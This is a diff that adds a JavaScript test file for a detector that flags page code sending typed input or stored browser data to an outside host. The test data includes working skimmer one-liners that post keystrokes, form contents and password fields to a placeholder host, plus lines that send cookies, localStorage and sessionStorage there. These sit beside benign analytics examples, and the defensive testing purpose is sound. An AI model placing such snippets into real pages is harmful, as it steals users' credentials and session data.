@@ -1,0 +1,43 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from './sent.js';
+
+const TYPED = ['keystrokes>network@collect.invalid'];
+const STORED = ['page-storage>network@collect.invalid'];
+
+/** Whatever is typed into a page leaves for a host in the code. */
+const CAPTURES: readonly string[] = [
+  `document.addEventListener('input', (e) => { fetch('https://collect.invalid/', { method: 'POST', body: e.target.value }); });`,
+  `const all = {}; window.addEventListener('change', ({ target }) => { all[target.name] = target.value; navigator.sendBeacon('https://collect.invalid', JSON.stringify(all)); }, true);`,
+  `const ws = new WebSocket('wss://collect.invalid/k'); const all = {}; addEventListener('blur', (e) => { all.x = e.target.value; }); addEventListener('submit', () => ws.send(JSON.stringify(all)));`,
+  `document.addEventListener('submit', (e) => { fetch('https://collect.invalid', { method: 'POST', body: new FormData(e.target) }); });`,
+  `const t = document.querySelector('input[type=password]'); setInterval(() => { new Image().src = 'https://collect.invalid/?' + t.value; }, 1000);`,
+  `document.querySelectorAll('input').forEach((field) => fetch('https://collect.invalid/' + btoa(field.value)));`,
+  `$(document).on('submit', 'form', function () { $.post('https://collect.invalid', $(this).serialize()); });`,
+];
+
+const KEPT: readonly string[] = [
+  `navigator.sendBeacon('https://collect.invalid', document.cookie);`,
+  `new Image().src = 'https://collect.invalid/i.gif?' + encodeURIComponent(document.cookie);`,
+  `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(localStorage) });`,
+  `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ ...sessionStorage }) });`,
+  `const all = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); all[k] = localStorage.getItem(k); } fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all) });`,
+  `for (const k of Object.keys(localStorage)) fetch('https://collect.invalid/' + localStorage.getItem(k));`,
+];
+
+/** What widgets, analytics and forms of honest pages do. */
+const HONEST: readonly string[] = [
+  `document.addEventListener('input', (e) => { fetch('/suggest?q=' + e.target.value); });`,
+  `document.addEventListener('submit', (e) => { navigator.sendBeacon('https://stats.example/e', JSON.stringify({ form: e.target.id })); });`,
+  `document.querySelector('#search').addEventListener('change', (e) => render(e.target.value));`,
+  `const id = document.cookie.split('; ').find((c) => c.startsWith('id=')); navigator.sendBeacon('https://stats.example/e', id);`,
+  `const id = /id=([^;]*)/.exec(document.cookie); fetch('https://stats.example/' + localStorage.getItem('visitor'));`,
+  `exports.post = (url, form) => fetch(url, { method: 'POST', body: new FormData(form) });`,
+  `exports.store = { get: (k) => localStorage.getItem(k), set: (k, v) => localStorage.setItem(k, v) };`,
+];
+
+describe('page-input', () => {
+  for (const code of CAPTURES) it(`is taken: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], TYPED));
+  for (const code of KEPT)
+    it(`is taken from what is kept: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], STORED));
+  for (const code of HONEST) it(`is not taken: ${code}`, () => assert.deepEqual(flowsOf(code), []));
+});
